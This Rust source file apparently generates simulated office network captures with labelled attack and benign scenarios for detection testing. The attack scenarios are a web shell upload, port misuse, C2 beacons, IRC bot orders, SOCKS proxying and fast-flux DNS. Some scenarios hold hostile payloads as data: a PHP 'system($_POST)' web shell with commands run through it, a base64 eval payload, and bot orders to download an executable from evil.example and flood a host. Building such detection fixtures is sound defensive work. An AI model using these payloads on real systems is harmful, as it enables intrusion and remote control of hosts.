//! Ways in which a controlled host is spoken to: pages that run commands, borrowed ports, held connections, chat rooms, proxies, names that wander.

use super::office::Office;
use crate::model::time::SECOND;
use crate::synth::apps::dns::Answer;
use crate::synth::apps::http::{BROWSER, page, request};
use crate::synth::net::{Host, MILLI, MINUTE, Net, Os};
use crate::synth::{Capture, Deed};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// An office at work, its second workstation, and a stranger outside.
fn stage(seed: u64) -> (Office, Host, Host) {
    let mut office = Office::new(seed, 3);
    office.bustle(40 * SECOND, 1);
    let bot = office.pc(1);
    let stranger = office.net.outside("", [203, 0, 113, 140], Os::Linux, 63);
    office.net.wait(5 * SECOND);
    (office, bot, stranger)
}

fn deed(rule: &'static str, tactic: &'static str, techniques: &'static [&'static str], says: &'static str) -> Deed {
    Deed::attack(tactic, techniques, says).rule(rule)
}

/// A form posted to a server's page on a connection of its own.
fn post(net: &mut Net, client: Host, server: Host, path: &str, form: &str, answer: &[u8]) {
    let headers = [("User-Agent", BROWSER), ("Accept", "*/*"), ("Content-Type", "application/x-www-form-urlencoded")];
    let mut tcp = net.tcp(client, server, 80);
    tcp.connect();
    tcp.http(&request("POST", "www.office.example", path, &headers, form.as_bytes()), "200 OK", "text/html", answer);
    tcp.close();
    net.wait(7 * SECOND);
}

pub fn web_shell(name: &str) -> Capture {
    let (mut office, _, stranger) = stage(300);
    let net = &mut office.net;
    let server = net.host("www.office.example", [10, 20, 0, 80], Os::Linux);
    let says = "A page that runs what it is sent is stored and used: commands, code, then sealed posts";
    let deed = deed("webshell", "persistence", &["T1505.003"], says);
    net.deed(deed.by([net.ip(stranger)]).on([net.ip(server)]), |net| {
        post(net, stranger, server, "/save.php", "name=logo.php&text=%3C%3Fphp+system(%24_POST%5B'c'%5D)%3B", b"saved");
        post(net, stranger, server, "/img/logo.php", "c=id", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
        post(net, stranger, server, "/img/logo.php", "c=cat+/etc/issue", b"Debian GNU/Linux 13 \\n \\l\n");
        post(net, stranger, server, "/img/logo.php", "c=ls+-la+/var/www", b"total 8\ndrwxr-xr-x 2 root root 4096 Mar  3 09:00 html\n");
        let code = "c=%40eval(base64_decode(%24_POST%5Bz0%5D))%3B&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D";
        post(net, stranger, server, "/img/logo.php", code, b"->|/var/www/html\twww-data|<-");
        for _ in 0..3 {
            let (order, answer) = (STANDARD.encode(net.rng.bytes(96)), STANDARD.encode(net.rng.bytes(144)));
            post(net, stranger, server, "/img/logo.php", &order, answer.as_bytes());
        }
    });
    office.net.finish(name)
}

pub fn forms(name: &str) -> Capture {
    let (mut office, _, customer) = stage(301);
    let net = &mut office.net;
    let server = net.host("www.office.example", [10, 20, 0, 80], Os::Linux);
    net.deed(Deed::benign("Forms whose words are names of commands, too").by([net.ip(customer)]).on([net.ip(server)]), |net| {
        post(net, customer, server, "/list.php", "sort=id&type=copy&who=cat", &page("List", 600));
        post(net, customer, server, "/search.php", "q=cat+food&order=date", &page("Results", 900));
        post(net, customer, server, "/search.php", "q=find+a+printer", &page("Results", 900));
        post(net, customer, server, "/upload.php", "name=notes.php.txt&text=How+to+use+eval+in+a+page", b"saved");
        post(net, customer, server, "/state.aspx", &format!("__VIEWSTATE={}", "dDwxMjM0NTY3ODk7Oz4".repeat(6)), &page("State", 400));
    });
    office.net.finish(name)
}

const OPEN_SSH: &str = "SSH-2.0-OpenSSH_9.6";

pub fn borrowed_port(name: &str) -> Capture {
    let (mut office, bot, stranger) = stage(302);
    let net = &mut office.net;
    let deed = deed("odd-port", "command-and-control", &["T1571"], "A workstation speaks SSH through the port of DNS");
    net.deed(deed.by([net.ip(bot)]).on([net.ip(stranger)]), |net| {
        let mut tcp = net.tcp(bot, stranger, 53);
        tcp.connect();
        tcp.ssh(OPEN_SSH, OPEN_SSH);
        tcp.ssh_key("svc");
        tcp.ssh_session(900);
        tcp.close();
    });
    office.net.finish(name)
}

pub fn own_ports(name: &str) -> Capture {
    let (mut office, pc, server) = stage(303);
    let net = &mut office.net;
    net.deed(Deed::benign("SSH and the web on their own ports; a knock at the wrong door").by([net.ip(pc)]).on([net.ip(server)]), |net| {
        let mut tcp = net.tcp(pc, server, 22);
        tcp.connect();
        tcp.ssh(OPEN_SSH, OPEN_SSH);
        tcp.ssh_key("amy");
        tcp.ssh_session(900);
        tcp.close();
        let mut tcp = net.tcp(pc, server, 8_080);
        tcp.connect();
        tcp.http_get("build.example", "/status", "200 OK", "text/html", &page("Build", 700));
        tcp.close();
        let mut tcp = net.tcp(pc, server, 22);
        tcp.connect();
        tcp.send(b"GET / HTTP/1.0\r\n\r\n");
        tcp.reply(format!("{OPEN_SSH}\r\n").as_bytes());
        tcp.close_by_server();
    });
    office.net.finish(name)
}

/// A connection whose ends give signs of life by a clock, and orders now and then.
fn hold(net: &mut Net, client: Host, server: Host, port: u16, rounds: usize) {
    let mut tcp = net.tcp(client, server, port);
    tcp.connect();
    for round in 0..rounds {
        let sizes = if round % 9 == 4 { (310, 90) } else { (28, 28) };
        let (said, heard) = (tcp.net.rng.bytes(sizes.0), tcp.net.rng.bytes(sizes.1));
        tcp.reply(&[&[0x91, 7][..], &heard].concat());
        tcp.send(&[&[0x92, 7][..], &said].concat());
        tcp.pause(30 * SECOND);
    }
    tcp.close();
}

pub fn held(name: &str) -> Capture {
    let (mut office, bot, stranger) = stage(304);
    let net = &mut office.net;
    let deed =
        deed("held-channel", "command-and-control", &["T1095", "T1571"], "An implant holds a connection of its own kind open on port 443");
    net.deed(deed.by([net.ip(bot)]).on([net.ip(stranger)]), |net| hold(net, bot, stranger, 443, 24));
    office.net.finish(name)
}

pub fn held_by_name(name: &str) -> Capture {
    let (mut office, pc, _) = stage(305);
    let net = &mut office.net;
    let cloud = net.outside("push.maker.example", [198, 51, 100, 33], Os::Linux, 35);
    net.deed(
        Deed::benign("A device's service on a port of its own, found by name; a short call").by([net.ip(pc)]).on([net.ip(cloud)]),
        |net| {
            net.find(pc, cloud);
            hold(net, pc, cloud, 9_543, 24);
            hold(net, pc, cloud, 443, 3);
        },
    );
    office.net.finish(name)
}

pub fn no_browser(name: &str) -> Capture {
    let (mut office, bot, _) = stage(306);
    let net = &mut office.net;
    let gate = net.outside("gate.evil.example", [203, 0, 113, 141], Os::Linux, 58);
    let deed = deed("false-browser", "command-and-control", &["T1071.001", "T1036"], "A program posts reports under the name of a browser");
    net.deed(deed.by([net.ip(bot)]).on([net.ip(gate)]), |net| {
        net.find(bot, gate);
        for _ in 0..8 {
            let body = format!("d={}", STANDARD.encode(net.rng.bytes(90)).replace(['+', '/', '='], "x"));
            let headers = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36")];
            let mut tcp = net.tcp(bot, gate, 80);
            tcp.connect();
            tcp.http(&request("POST", "gate.evil.example", "/gate.php", &headers, body.as_bytes()), "200 OK", "text/html", b"ok");
            tcp.close();
            net.wait(50 * SECOND);
        }
    });
    office.net.finish(name)
}

pub fn a_browser(name: &str) -> Capture {
    let (mut office, pc, _) = stage(307);
    let net = &mut office.net;
    let shop = net.outside("shop.example", [192, 0, 2, 91], Os::Linux, 25);
    net.deed(Deed::benign("A browser reads and posts; another program says its own name").by([net.ip(pc)]).on([net.ip(shop)]), |net| {
        net.find(pc, shop);
        for n in 0..8 {
            let mut tcp = net.tcp(pc, shop, 80);
            tcp.connect();
            tcp.http_get("shop.example", &format!("/page/{n}"), "200 OK", "text/html", &page("Shop", 700));
            let headers = [("User-Agent", BROWSER), ("Accept", "*/*"), ("Referer", "http://shop.example/")];
            tcp.http(&request("POST", "shop.example", "/cart", &headers, b"item=7&count=1"), "200 OK", "text/html", b"ok");
            tcp.http(
                &request("POST", "shop.example", "/count", &[("User-Agent", "shop-client/2.4")], b"n=1"),
                "200 OK",
                "text/plain",
                b"ok",
            );
            tcp.close();
            net.wait(20 * SECOND);
        }
    });
    office.net.finish(name)
}

/// A client joins a room and hears what is said there.
fn chat(net: &mut Net, client: Host, server: Host, port: u16, nick: &str, heard: &[&str], said: &[&str]) {
    let mut tcp = net.tcp(client, server, port);
    tcp.connect();
    tcp.send(format!("NICK {nick}\r\nUSER {nick} 0 * :{nick}\r\n").as_bytes());
    tcp.reply(format!(":irc.example 001 {nick} :Welcome\r\n").as_bytes());
    tcp.send(b"JOIN #room\r\n");
    tcp.reply(format!(":{nick}!~u@10.20.0.102 JOIN #room\r\n").as_bytes());
    for line in heard {
        tcp.pause(9 * SECOND);
        tcp.reply(format!("{line}\r\n").as_bytes());
    }
    for line in said {
        tcp.pause(6 * SECOND);
        tcp.send(format!("PRIVMSG #room :{line}\r\n").as_bytes());
    }
    tcp.pause(MINUTE);
    tcp.close();
}

pub fn orders(name: &str) -> Capture {
    let (mut office, bot, stranger) = stage(308);
    let net = &mut office.net;
    let deed = deed("irc-bot", "command-and-control", &["T1071"], "A bot joins a room whose topic is an order, and hears others");
    net.deed(deed.by([net.ip(bot)]).on([net.ip(stranger)]), |net| {
        let heard = [
            ":irc.example 332 DEU|XP|48213 #room :.advscan lsass 100 5 0 -r -s",
            ":boss!b@198.51.100.4 PRIVMSG #room :.download http://files.evil.example/u.exe c:\\u.exe 1",
            ":boss!b@198.51.100.4 PRIVMSG #room :.udp.flood 192.0.2.99 1000 4096",
        ];
        chat(net, bot, stranger, 5_190, "DEU|XP|48213", &heard, &["[SCAN]: 100 threads started"]);
    });
    office.net.finish(name)
}

pub fn chatter(name: &str) -> Capture {
    let (mut office, pc, server) = stage(309);
    let net = &mut office.net;
    net.deed(Deed::benign("People chat, one asks a helpful robot").by([net.ip(pc)]).on([net.ip(server)]), |net| {
        let heard = [
            ":irc.example 332 amy1984 #room :Welcome. Logs: https://logs.example, ask before you paste",
            ":joe!j@192.0.2.7 PRIVMSG #room :!help",
            ":joe!j@192.0.2.7 PRIVMSG #room :... open the window and run",
            ":joe!j@192.0.2.7 PRIVMSG #room :!version",
        ];
        chat(net, pc, server, 6_667, "amy1984", &heard, &["hello", "it is at https://docs.example now"]);
    });
    office.net.finish(name)
}

/// A connection by way of a SOCKS proxy (RFC 1928); what passes then is of that many bytes each way.
fn by_proxy(net: &mut Net, client: Host, proxy: Host, port: u16, far: ([u8; 4], u16), bytes: usize) {
    let mut tcp = net.tcp(client, proxy, port);
    tcp.connect();
    tcp.send(&[5, 1, 0]);
    tcp.reply(&[5, 0]);
    tcp.send(&[&[5, 1, 0, 1][..], &far.0, &far.1.to_be_bytes()].concat());
    tcp.reply(&[5, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    let (out, back) = (tcp.net.rng.bytes(bytes), tcp.net.rng.bytes(bytes));
    tcp.send(&out);
    tcp.reply(&back);
    tcp.close();
}

pub fn proxied(name: &str) -> Capture {
    let (mut office, bot, stranger) = stage(310);
    let net = &mut office.net;
    let deed = deed("outside-proxy", "command-and-control", &["T1090.002"], "A workstation goes through a SOCKS proxy outside");
    net.deed(deed.by([net.ip(bot)]).on([net.ip(stranger)]), |net| {
        for n in 0..6u8 {
            by_proxy(net, bot, stranger, 1_080, ([198, 51, 100, 150 + n], 4_443), 1_200);
            net.wait(8 * SECOND);
        }
    });
    office.net.finish(name)
}

pub fn own_proxy(name: &str) -> Capture {
    let (mut office, pc, stranger) = stage(311);
    let net = &mut office.net;
    let proxy = net.host("proxy", [10, 20, 0, 8], Os::Linux);
    net.deed(Deed::benign("The office's own proxy; one outside that is knocked at").by([net.ip(pc)]).on([net.ip(proxy)]), |net| {
        for n in 0..6u8 {
            by_proxy(net, pc, proxy, 1_080, ([198, 51, 100, 150 + n], 443), 1_200);
            net.wait(8 * SECOND);
        }
        by_proxy(net, pc, stranger, 1_080, ([198, 51, 100, 150], 443), 40);
    });
    office.net.finish(name)
}

/// A name is asked for again and again; each answer is valid for so many seconds.
fn ask_again(net: &mut Net, client: Host, name: &str, answers: &[([u8; 4], u32)]) {
    for (address, ttl) in answers {
        net.dns(client, name, 1, &Answer::Address((*address).into(), *ttl));
        net.wait(i64::from(*ttl) * SECOND + 300 * MILLI);
    }
}

/// Answers lead to addresses that nobody has: those of class E.
pub fn wandering(name: &str) -> Capture {
    let (mut office, bot, _) = stage(312);
    let net = &mut office.net;
    let deed = deed("fast-flux", "command-and-control", &["T1568.001"], "A name leads to another end of the Internet every two minutes");
    net.deed(deed.by([net.ip(bot)]), |net| {
        let answers: Vec<([u8; 4], u32)> = (0..15).map(|n| ([240 + n, 40 + 11 * n, 7 * n, 3 + n], 120)).collect();
        ask_again(net, bot, "login.evil.example", &answers);
    });
    office.net.finish(name)
}

pub fn by_turns(name: &str) -> Capture {
    let (mut office, pc, _) = stage(313);
    let net = &mut office.net;
    net.deed(
        Deed::benign("A content network answers by turns from two networks; time servers come from all over").by([net.ip(pc)]),
        |net| {
            let near: Vec<([u8; 4], u32)> = (0..16).map(|n| ([10, 40 + n % 2, 7, 3 + n], 60)).collect();
            ask_again(net, pc, "images.cdn.example", &near);
            let far: Vec<([u8; 4], u32)> = (0..15).map(|n| ([240 + n, 40 + 11 * n, 7 * n, 3 + n], 60)).collect();
            ask_again(net, pc, "2.pool.ntp.example", &far);
            let lasting: Vec<([u8; 4], u32)> = (0..12).map(|n| ([240 + n, 40 + 11 * n, 9 * n, 3 + n], 3_600)).collect();
            ask_again(net, pc, "mirrors.example", &lasting);
        },
    );
    office.net.finish(name)
}
